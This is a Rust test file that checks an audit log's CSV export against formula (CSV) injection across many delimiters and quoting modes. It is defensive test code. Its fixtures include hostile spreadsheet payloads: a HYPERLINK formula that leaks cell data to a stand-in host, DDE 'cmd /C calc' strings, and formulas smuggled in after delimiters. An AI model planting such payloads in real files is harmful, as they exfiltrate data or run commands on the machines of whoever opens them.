//! The audit log's CSV export, opened as a spreadsheet would whatever
//! delimiter it picks: no cell may start with a formula.
//!
//! Text an agent or a service chose (a service id, a reason, a hash) goes
//! into a real audit log, is exported by the real export, and is then read
//! by a real CSV parser (Python's `csv` module, /usr/bin/python3) once per
//! delimiter a spreadsheet may use, both honouring our quotes and ignoring
//! them (a parser out of step with our quoting). Each cell is trimmed of
//! whitespace and `"` as an importer may do; none may then begin with
//! `= + - @`, tab or CR.

use parley_custody::audit::{export_csv, Audit, EventKind, NewEvent, Query};
use std::path::Path;
use std::process::Command;

const PYTHON: &str = "/usr/bin/python3";

/// Prints every cell that starts with a formula character, for each
/// delimiter and quoting mode, as `delimiter|mode|cell` lines; then `cells N`.
const PARSE: &str = r#"
import csv, sys
text = open(sys.argv[1], newline="").read()
bad, cells = [], 0
for delim in [",", ";", "\t", "|", " ", ":"]:
    for mode in ["quotes", "no-quotes"]:
        opts = dict(delimiter=delim)
        if mode == "no-quotes":
            opts["quoting"] = csv.QUOTE_NONE
        for row in csv.reader(text.splitlines(), **opts):
            for cell in row:
                cells += 1
                c = cell.strip().strip('"').strip()
                # Our own numbers are written bare; a bare integer is no formula.
                if c.lstrip("-").isdigit():
                    continue
                if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    bad.append("%r|%s|%r" % (delim, mode, cell))
print("\n".join(bad))
print("cells %d" % cells)
"#;

#[test]
fn a_csv_export_never_starts_a_cell_with_a_formula_whatever_the_delimiter() {
    assert!(
        Path::new(PYTHON).exists(),
        "this test parses the export with {PYTHON}'s csv module: apt-get install python3-minimal"
    );
    let hostile = [
        "x;=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "a\t=1",
        "a|=1",
        "a,=1",
        "a: +cmd|' /C calc'!A0",
        "a ;\"@SUM(1+1)*cmd|' /C calc'!A0\"",
        "fee -2+3+cmd|' /C calc'!A0",
        "line\n=1\r\n-2",
        "=already at the start",
        "x;'=quoted once",
    ];
    let dir = tempfile::tempdir().unwrap();
    let mut audit = Audit::open(&dir.path().join("audit.sqlite3")).unwrap();
    for (i, text) in hostile.iter().enumerate() {
        audit
            .append(&NewEvent {
                peer_uid: Some(1000),
                service: Some((*text).to_string()),
                capability: Some(format!("cap{i};-1")),
                hash: Some((*text).to_string()),
                reason: Some(format!("rejected: {text}")),
                cost_amount: Some(100),
                cost_currency: Some("USD".into()),
                ..NewEvent::new(EventKind::RequestRejected, 1_800_000_000 + i as i64)
            })
            .unwrap();
    }
    let rows = audit.query(&Query::default()).unwrap();
    assert_eq!(rows.len(), hostile.len());
    let path = dir.path().join("export.csv");
    export_csv(&rows, std::fs::File::create(&path).unwrap()).unwrap();

    let out = Command::new(PYTHON)
        .arg("-c")
        .arg(PARSE)
        .arg(&path)
        .output()
        .expect("python3");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report = String::from_utf8_lossy(&out.stdout);
    let (bad, count) = report.trim_end().rsplit_once("cells ").unwrap();
    let cells: usize = count.trim().parse().unwrap();
    // Every delimiter and mode was read, each row into at least one cell.
    assert!(cells >= 12 * (hostile.len() + 1), "{cells} cells read");
    assert!(
        bad.trim().is_empty(),
        "cells that start a formula:\n{bad}\n--- the export ---\n{}",
        std::fs::read_to_string(&path).unwrap()
    );
    // And the text is still there to read: one `'` more before each formula.
    let csv = std::fs::read_to_string(&path).unwrap();
    assert!(
        csv.contains("x;'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")"),
        "{csv}"
    );
}
